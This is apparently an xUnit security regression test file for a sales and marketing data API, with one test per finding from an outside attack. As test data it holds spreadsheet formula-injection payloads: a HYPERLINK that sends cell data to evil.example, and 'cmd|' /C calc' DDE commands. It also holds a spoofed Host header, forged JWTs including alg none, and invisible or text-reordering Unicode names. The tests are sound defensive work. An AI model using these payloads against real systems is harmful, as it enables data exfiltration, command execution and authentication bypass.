using System.Net;
using System.Text;
using DataMeesh.Tests.Infrastructure;

namespace DataMeesh.Tests.DataProducts;

/// <summary>
/// What an outside attack on both APIs found (issue 16), one regression test per finding: each failed before its fix.
/// </summary>
public sealed class ProductSecurityTests(DataProductApps apps) : IClassFixture<DataProductApps>
{
    private static string Order(string salesRep) =>
        $$"""{"customerId": 1, "paymentMethod": "Invoice", "salesRep": {{Json(salesRep)}}, "region": "Europe", "items": [{"productId": 1, "quantity": 1}]}""";

    private static string Lead(string firstName, string company = "Acme") =>
        $$"""{"firstName": {{Json(firstName)}}, "lastName": "Quist", "email": "{{Guid.NewGuid():N}}@example.com", "company": {{Json(company)}}, "leadSource": "LinkedIn", "leadScore": 50}""";

    private static string Json(string value) => System.Text.Json.JsonSerializer.Serialize(value);

    private static StringContent Body(string json) => new(json, Encoding.UTF8, "application/json");

    [Theory]
    [InlineData("sales")]
    [InlineData("marketing")]
    public async Task Text_with_a_nul_byte_is_refused_and_leaves_every_pooled_connection_working(string domain)
    {
        var client = apps.Client(domain, DataProductApps.WriterRoles(domain));
        var (url, hostile, field, valid) = domain == "sales"
            ? ("/orders", Order("Ann\u0000Lee"), "salesRep", Order("Ann Lee"))
            : ("/leads", Lead("Nora", company: "Ac\u0000me"), "company", Lead("Nora"));
        var before = await apps.Databases.ScalarAsync<long>(domain, domain == "sales" ? "SELECT count(*) FROM orders" : "SELECT count(*) FROM leads");

        // More attempts than a pool has busy connections here: every one of them must stay usable.
        for (var i = 0; i < 6; i++)
        {
            await (await client.PostAsync(url, Body(hostile))).ProblemAsync(400, field);
        }

        for (var i = 0; i < 6; i++)
        {
            var response = await client.PostAsync(url, Body(domain == "sales" ? valid : Lead("Nora")));
            Assert.True(response.StatusCode == HttpStatusCode.Created, $"{(int)response.StatusCode}: {await response.Content.ReadAsStringAsync()}");
        }

        Assert.Equal(before + 6, await apps.Databases.ScalarAsync<long>(domain, domain == "sales" ? "SELECT count(*) FROM orders" : "SELECT count(*) FROM leads"));
    }

    public static TheoryData<string> NonJsonMediaTypes =>
        ["text/csv", "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet", "application/xml", "application/yaml", "text/html"];

    [Theory]
    [MemberData(nameof(NonJsonMediaTypes))]
    public async Task Problems_are_written_whatever_the_caller_accepts(string accept)
    {
        var anonymous = apps.Api("sales");
        var reader = apps.Client("sales");
        var writer = apps.Client("marketing", DataProductApps.WriterRoles("marketing"));
        var cases = new (HttpClient Client, HttpRequestMessage Request, int Status)[]
        {
            (anonymous, new(HttpMethod.Get, "/datasets/nope"), 404),
            (anonymous, new(HttpMethod.Get, "/contracts/nope.yaml"), 404),
            (reader, new(HttpMethod.Get, "/customers/99999"), 404),
            (reader, new(HttpMethod.Get, "/customers/99999/orders"), 404),
            (reader, new(HttpMethod.Get, "/datasets/orders/rows?limit=0"), 400),
            (reader, new(HttpMethod.Get, "/datasets/orders/rows?nope=1"), 400),
            (anonymous, new(HttpMethod.Get, "/datasets/orders/rows"), 401),
            (reader, new(HttpMethod.Post, "/orders") { Content = Body(Order("Ann")) }, 403),
            (writer, new(HttpMethod.Post, "/leads") { Content = Body("{not json") }, 400),
            (writer, new(HttpMethod.Post, "/campaigns/999999/metrics") { Content = Body("""{"metricDate": "2020-01-01", "impressions": 1, "clicks": 0, "conversions": 0, "costPerClick": 0}""") }, 404),
        };
        foreach (var (client, request, status) in cases)
        {
            request.Headers.Accept.ParseAdd(accept);
            var response = await client.SendAsync(request);
            var body = await response.Content.ReadAsStringAsync();
            Assert.True((int)response.StatusCode == status, $"{request.Method} {request.RequestUri} with Accept {accept}: {(int)response.StatusCode} {body}");
            var problem = await response.ProblemAsync(status);
            Assert.StartsWith("https://", problem.GetProperty("type").GetString());
            Assert.False(string.IsNullOrEmpty(problem.GetProperty("title").GetString()));
            Assert.True(problem.TryGetProperty("traceId", out _), body);
        }
    }

    [Fact]
    public async Task An_idempotency_key_belongs_to_its_caller()
    {
        var ann = apps.ClientAs("sales", "ann", "sales-writer");
        var bob = apps.ClientAs("sales", "bob", "sales-writer");
        var key = Guid.NewGuid().ToString();

        var first = await ann.PostAsync("/orders", Keyed(Order("Ann Lee"), key));
        var annOrder = (await first.JsonAsync(HttpStatusCode.Created)).GetProperty("order_id").GetInt64();

        // Bob's identical key is Bob's own request: a new order, not Ann's response, and no hint that the key was used.
        var same = await bob.PostAsync("/orders", Keyed(Order("Ann Lee"), key));
        Assert.False(same.Headers.Contains("Idempotent-Replayed"));
        var bobOrder = (await same.JsonAsync(HttpStatusCode.Created)).GetProperty("order_id").GetInt64();
        Assert.NotEqual(annOrder, bobOrder);
        var bobRetry = await bob.PostAsync("/orders", Keyed(Order("Ann Lee"), key));
        Assert.True(bobRetry.Headers.Contains("Idempotent-Replayed"), "Bob's retry replays Bob's own order");
        Assert.Equal($"/orders/{bobOrder}", bobRetry.Headers.Location?.ToString());
        // A different body under Ann's key is Bob's business only: it does not tell him the key is Ann's (422 is about his own use).
        await (await bob.PostAsync("/orders", Keyed(Order("Bob Ray"), key))).ProblemAsync(422, "Idempotency-Key");
        var fresh = Guid.NewGuid().ToString();
        Assert.Equal(HttpStatusCode.Created, (await bob.PostAsync("/orders", Keyed(Order("Bob Ray"), fresh))).StatusCode);
        await (await ann.PostAsync("/orders", Keyed(Order("Ann Lee"), fresh))).JsonAsync(HttpStatusCode.Created);

        // Ann still replays her own order.
        var replay = await ann.PostAsync("/orders", Keyed(Order("Ann Lee"), key));
        Assert.Equal(annOrder, (await replay.JsonAsync(HttpStatusCode.Created)).GetProperty("order_id").GetInt64());
        Assert.True(replay.Headers.Contains("Idempotent-Replayed"));
        Assert.Equal(2L, await apps.Databases.ScalarAsync<long>("sales", $"SELECT count(*) FROM datameesh.idempotency_keys WHERE key = '{key}'"));
        Assert.Equal(0L, await apps.Databases.ScalarAsync<long>("sales",
            $"SELECT count(*) FROM datameesh.idempotency_keys WHERE key = '{key}' AND (caller LIKE '%ann%' OR caller LIKE '%bob%')"));
    }

    private static StringContent Keyed(string json, string key)
    {
        var content = Body(json);
        content.Headers.Add("Idempotency-Key", key);
        return content;
    }

    [Fact]
    public async Task Csv_cells_that_a_spreadsheet_would_run_as_formulas_are_written_as_text()
    {
        var writer = apps.Client("marketing", DataProductApps.WriterRoles("marketing"));
        const string hyperlink = "=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")";
        const string command = "+cmd|' /C calc'!A0";
        const string at = "@SUM(1+1)*cmd|' /C calc'!A0";
        var created = await (await writer.PostAsync("/leads", Body(
            $$"""{"firstName": "Eve", "lastName": "Mallory", "email": "{{Guid.NewGuid():N}}@example.com", "company": {{Json(hyperlink)}}, "jobTitle": {{Json(command)}}, "country": {{Json(at)}}, "leadSource": "LinkedIn", "leadScore": 5}""")))
            .JsonAsync(HttpStatusCode.Created);
        var id = created.GetProperty("lead_id").GetInt64();

        var request = new HttpRequestMessage(HttpMethod.Get, $"/datasets/leads/rows?lead_id={id}&fields=company,job_title,country");
        request.Headers.Accept.ParseAdd("text/csv");
        var lines = (await (await apps.Client("marketing").SendAsync(request)).Content.ReadAsStringAsync()).Split("\r\n", StringSplitOptions.RemoveEmptyEntries);
        Assert.Equal(["company,job_title,country", $"\"'{hyperlink.Replace("\"", "\"\"")}\",'{command},'{at}"], lines);

        // The database and JSON keep the text as written; phone numbers and signed numbers stay as they are in CSV.
        Assert.Equal(hyperlink, await apps.Databases.ScalarAsync<string>("marketing", $"SELECT company FROM leads WHERE lead_id = {id}"));
        var phones = new HttpRequestMessage(HttpMethod.Get, "/datasets/customers/rows?fields=customer_id,phone&limit=3");
        phones.Headers.Accept.ParseAdd("text/csv");
        var phoneLines = (await (await apps.Client("sales", "pii-reader").SendAsync(phones)).Content.ReadAsStringAsync()).Split("\r\n", StringSplitOptions.RemoveEmptyEntries);
        Assert.All(phoneLines.Skip(1), line => Assert.Matches(@"^\d+,\+\d[\d ]+$", line));
    }

    [Fact]
    public async Task The_openapi_document_does_not_echo_the_host_header()
    {
        var request = new HttpRequestMessage(HttpMethod.Get, "/openapi/v1.json");
        request.Headers.Host = "evil.example";
        var document = await (await apps.Api("sales").SendAsync(request)).JsonAsync();
        Assert.DoesNotContain("evil.example", document.ToString());
        // One relative server (the origin the document came from), never the Host a caller sent.
        Assert.Equal("/", Assert.Single(document.GetProperty("servers").EnumerateArray()).GetProperty("url").GetString());
    }

    [Fact]
    public async Task Anonymous_contracts_do_not_say_where_the_database_is()
    {
        var host = new Npgsql.NpgsqlConnectionStringBuilder(apps.Databases.Sales).Host!;
        var anonymous = await (await apps.Api("sales").GetAsync("/contracts/orders.yaml")).Content.ReadAsStringAsync();
        Assert.DoesNotContain("servers:", anonymous);
        Assert.DoesNotContain(host, anonymous);
        Assert.Contains(host, await (await apps.Client("sales").GetAsync("/contracts/orders.yaml")).Content.ReadAsStringAsync());
    }

    [Fact]
    public async Task A_refused_token_learns_nothing_from_www_authenticate()
    {
        var valid = apps.Token();
        var parts = valid.Split('.');
        string Payload(string json) => Convert.ToBase64String(Encoding.UTF8.GetBytes(json)).TrimEnd('=').Replace('+', '-').Replace('/', '_');
        var now = DateTimeOffset.UtcNow.ToUnixTimeSeconds();
        var tokens = new Dictionary<string, string>
        {
            ["expired"] = apps.TokenExpiring(DateTime.UtcNow.AddMinutes(-10)),
            ["forged signature"] = valid[..^4] + "AAAA",
            ["issuer evil"] = $"{parts[0]}.{Payload($$"""{"iss":"evil","aud":"{{DataProductApps.Audience}}","sub":"x","exp":{{now + 600}}}""")}.{parts[2]}",
            ["alg none"] = $"{Payload("""{"alg":"none","typ":"JWT"}""")}.{Payload($$"""{"iss":"{{DataProductApps.Issuer}}","aud":"{{DataProductApps.Audience}}","sub":"x","exp":{{now + 600}},"role":"sales-writer"}""")}.",
            ["unknown key"] = $"{Payload("""{"alg":"HS256","kid":"nope","typ":"JWT"}""")}.{parts[1]}.{parts[2]}",
            ["garbage"] = "not-a-token",
        };
        foreach (var (what, token) in tokens)
        {
            var client = apps.Api("sales");
            client.DefaultRequestHeaders.Authorization = new("Bearer", token);
            var response = await client.GetAsync("/datasets/orders/rows");
            Assert.True(response.StatusCode == HttpStatusCode.Unauthorized, $"{what}: {(int)response.StatusCode}");
            Assert.Equal("Bearer", string.Join(", ", response.Headers.WwwAuthenticate.Select(h => h.ToString())));
            var body = await response.Content.ReadAsStringAsync();
            Assert.DoesNotContain("issuer", body, StringComparison.OrdinalIgnoreCase);
            Assert.DoesNotContain("signature", body, StringComparison.OrdinalIgnoreCase);
        }
    }

    public static TheoryData<string, string> InvisibleNames => new()
    {
        { "byte-order mark only", "\uFEFF" },
        { "byte-order marks and spaces", " \uFEFF\uFEFF " },
        { "zero-width space only", "\u200B" },
        { "starts with right-to-left override", "\u202Eeel nnA" },
        { "right-to-left override inside", "Ann \u202Eeel" },
        { "starts with zero-width joiner", "\u200DAnn" },
        { "starts with zero-width non-joiner", "\u200CAnn" },
        { "ends with zero-width space", "Ann\u200B" },
        { "starts with left-to-right mark", "\u200EAnn" },
        { "starts with word joiner", "\u2060Ann" },
        { "first strong isolate", "\u2068Ann\u2069" },
        { "escape character", "Ann\u001B[31m" },
    };

    [Theory]
    [MemberData(nameof(InvisibleNames))]
    public async Task Names_that_are_invisible_or_reorder_text_are_refused(string what, string name)
    {
        var before = await apps.Databases.ScalarAsync<long>("marketing", "SELECT count(*) FROM leads");
        var lead = await apps.Client("marketing", DataProductApps.WriterRoles("marketing")).PostAsync("/leads", Body(Lead(name)));
        Assert.True(lead.StatusCode == HttpStatusCode.BadRequest, $"{what}: {(int)lead.StatusCode}");
        await lead.ProblemAsync(400, "firstName");
        await (await apps.Client("sales", "sales-writer").PostAsync("/orders", Body(Order(name)))).ProblemAsync(400, "salesRep");
        Assert.Equal(before, await apps.Databases.ScalarAsync<long>("marketing", "SELECT count(*) FROM leads"));
    }

    [Theory]
    [InlineData("Zoë Ångström")]
    [InlineData("محمد")]
    [InlineData("李小龍")]
    [InlineData("👩\u200D💻 Dev")] // a zero-width joiner inside an emoji sequence is text
    [InlineData("O'Brien-Smith")]
    public async Task Names_in_any_script_are_accepted(string name)
    {
        var created = await (await apps.Client("marketing", DataProductApps.WriterRoles("marketing")).PostAsync("/leads", Body(Lead(name)))).JsonAsync(HttpStatusCode.Created);
        Assert.Equal(name, await apps.Databases.ScalarAsync<string>("marketing", $"SELECT first_name FROM leads WHERE lead_id = {created.GetProperty("lead_id").GetInt64()}"));
    }

    [Fact]
    public async Task A_lone_surrogate_is_refused_without_a_5xx()
    {
        var body = Order("Ann").Replace("\"Ann\"", "\"An\\ud800n\"", StringComparison.Ordinal);
        var response = await apps.Client("sales", "sales-writer").PostAsync("/orders", Body(body));
        await response.ProblemAsync(400);
    }

    [Fact]
    public async Task A_writer_writes_only_its_own_domain_and_one_sign_in_reads_both()
    {
        var salesWriter = apps.Token("sales-writer");
        HttpClient As(string domain, string token)
        {
            var client = apps.Api(domain);
            client.DefaultRequestHeaders.Authorization = new("Bearer", token);
            return client;
        }

        var leadsBefore = await apps.Databases.ScalarAsync<long>("marketing", "SELECT count(*) FROM leads");
        Assert.Equal(HttpStatusCode.Created, (await As("sales", salesWriter).PostAsync("/orders", Body(Order("Ann Lee")))).StatusCode);
        await (await As("marketing", salesWriter).PostAsync("/leads", Body(Lead("Nora")))).ProblemAsync(403);
        await (await As("marketing", salesWriter).PostAsync("/campaigns/1/metrics", Body("""{"metricDate": "2020-01-01", "impressions": 1, "clicks": 0, "conversions": 0, "costPerClick": 0}""")))
            .ProblemAsync(403);
        Assert.Equal(leadsBefore, await apps.Databases.ScalarAsync<long>("marketing", "SELECT count(*) FROM leads"));

        // The same token reads both domains.
        Assert.Equal(HttpStatusCode.OK, (await As("sales", salesWriter).GetAsync("/datasets/orders/rows?limit=1")).StatusCode);
        Assert.Equal(HttpStatusCode.OK, (await As("marketing", salesWriter).GetAsync("/datasets/leads/rows?limit=1")).StatusCode);

        // A bare role names no domain and writes none (and is told which role it needs); stewardship is per domain too; a
        // token may carry both domains' roles.
        var bare = await (await As("sales", apps.Token("writer")).PostAsync("/orders", Body(Order("Ann Lee")))).ProblemAsync(403);
        Assert.Contains("sales-writer", bare.GetProperty("detail").GetString());
        await (await As("marketing", apps.Token("sales-steward")).PostAsync("/quality/runs", null)).ProblemAsync(403);
        await (await As("sales", apps.Token("steward")).PostAsync("/quality/runs", null)).ProblemAsync(403);
        var both = apps.Token("sales-writer", "marketing-writer", "pii-reader");
        Assert.Equal(HttpStatusCode.Created, (await As("sales", both).PostAsync("/orders", Body(Order("Ann Lee")))).StatusCode);
        Assert.Equal(HttpStatusCode.Created, (await As("marketing", both).PostAsync("/leads", Body(Lead("Nora")))).StatusCode);
    }
}
